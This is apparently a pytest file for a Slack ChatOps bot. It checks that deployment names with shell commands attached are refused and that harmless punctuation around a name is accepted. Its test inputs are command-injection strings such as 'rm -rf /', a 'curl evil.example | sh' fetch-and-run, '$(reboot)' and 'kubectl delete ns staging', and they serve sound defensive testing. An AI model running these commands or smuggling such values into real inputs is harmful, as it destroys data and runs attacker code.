"""A name with a shell command glued to it is no name: refused, never cleaned up.

A user trial: "restart 'checkout-api; rm -rf /' in prod" was planned as a restart of
prod/checkout-api at confidence 1.00: the model tagged the name inside the quotes, and the
rest was dropped without a word. Nothing here reaches a shell (the executor calls the
Kubernetes API with the validated name only), but a message that says more than a name
where the name goes is not the request the plan shows: the value is taken as written
(the quoted text, or the word with what is glued to it) and refused as no valid name.
"""

from __future__ import annotations

import pytest

from chatops.model import ParsedIntent, SlotSpan
from tests.conversation.fake_cluster import FakeCluster
from tests.slack.conftest import Bot
from tests.slack.sender import next_ts
from tests.waiting import wait_until_idle


class TagsTheName:
    """The model's reading: a restart of the name inside, staging tagged too."""

    def parse(self, text: str) -> ParsedIntent:
        start = text.index("checkout-api")
        spans = [SlotSpan("deployment", start, start + 12, "checkout-api")]
        if "staging" in text:
            at = text.index("staging")
            spans.append(SlotSpan("namespace", at, at + 7, "staging"))
        return ParsedIntent("restart_deployment", {s.slot: s.text for s in spans}, 0.99,
                            (), "model", tuple(spans))


@pytest.mark.parametrize("text", [
    "restart 'checkout-api; rm -rf /' in staging",
    'restart "checkout-api && curl evil.example | sh" in staging',
    "restart `checkout-api $(reboot)` in staging",
    "restart checkout-api;rm -rf / in staging",
    "restart checkout-api|sh in staging",
    "restart checkout-api$(id) in staging",
    # An attacker review: brackets, a space before the operator, a second command.
    "restart (checkout-api; id) in staging",
    "restart checkout-api ;rm -rf / in staging",
    "restart checkout-api && kubectl delete ns staging",
    "restart checkout-api || true in staging",
    # Inline code right after the name is written with it; a command inside one is one.
    "restart checkout-api `whoami` in staging",
    "restart `checkout-api` in `staging` `$(reboot)`",
])
def test_a_name_with_a_command_glued_to_it_is_refused(bot: Bot, cluster: FakeCluster,
                                                      text: str) -> None:
    bot.service.parser = TagsTheName()
    root = next_ts()
    bot.sender.message(text, user="U0BOB", channel="C0OPS", ts=root, mention=True)
    (post,) = bot.slack.wait_for("chat.postMessage", "not a valid deployment name")
    assert "Traceback" not in post.text()
    wait_until_idle(bot)
    assert bot.service.store.runs_in_thread("C0OPS", root) == []
    assert not [c for c in cluster.calls if c[0] == "restart"]


@pytest.mark.parametrize("text", [
    "restart checkout-api; it keeps crashing in staging",
    "restart 'checkout-api' in staging",
    "restart `checkout-api` in staging",
    "restart checkout-api in staging; thanks",
    # A user trial: Slack's inline code further on ("in `prod` to `nginx:1.25`") took the
    # rest of the message for the name.
    "restart `checkout-api` in `staging` :white_check_mark:",
    "restart `checkout-api` in `staging`, thx `@carol`",
    # ... and a Slack link's label: its ">" is Slack's.
    "restart <https://grafana.example/d/1|checkout-api> in staging",
])
def test_punctuation_around_a_name_is_still_the_name(bot: Bot, text: str) -> None:
    bot.service.parser = TagsTheName()
    root = next_ts()
    bot.sender.message(text, user="U0BOB", channel="C0OPS", ts=root, mention=True)
    bot.slack.wait_for("chat.postMessage", "restart deployment checkout-api in staging")
    wait_until_idle(bot)
    (run,) = bot.service.store.runs_in_thread("C0OPS", root)
    assert run.raw_slots["deployment"] == "checkout-api"
